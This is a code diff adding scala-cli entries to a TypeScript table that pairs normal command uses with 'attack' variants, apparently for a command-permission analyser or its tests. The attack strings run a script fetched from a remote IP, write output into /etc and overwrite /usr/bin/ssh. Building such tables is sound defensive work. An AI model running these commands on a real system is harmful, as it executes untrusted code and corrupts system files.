@@ -272,6 +272,18 @@ export const smallerCompilers: ExampleTable = {
     use: 'lzop -dk app.lzo → read app.lzo; write app',
     attack: 'lzop -d -o /usr/bin/ssh app.lzo → read app.lzo; write /usr/bin/ssh',
   },
+  'scala-cli': {
+    use: 'scala-cli app.scala → read app.scala',
+    attack: 'scala-cli https://203.0.113.7/x.scala → execute ‹https://203.0.113.7/x.scala›',
+  },
+  'scala-cli doc': {
+    use: 'scala-cli doc app.scala -o api → unpack api',
+    attack: 'scala-cli doc app.scala -o /etc → unpack /etc',
+  },
+  'scala-cli export': {
+    use: 'scala-cli export app.scala -o build → unpack build',
+    attack: 'scala-cli export app.scala -o /etc → unpack /etc',
+  },
   'scala-cli package': {
     use: 'scala-cli package app.scala -o app → read app.scala; write app',
     attack: 'scala-cli package app.scala -o /usr/bin/ssh → read app.scala; write /usr/bin/ssh',
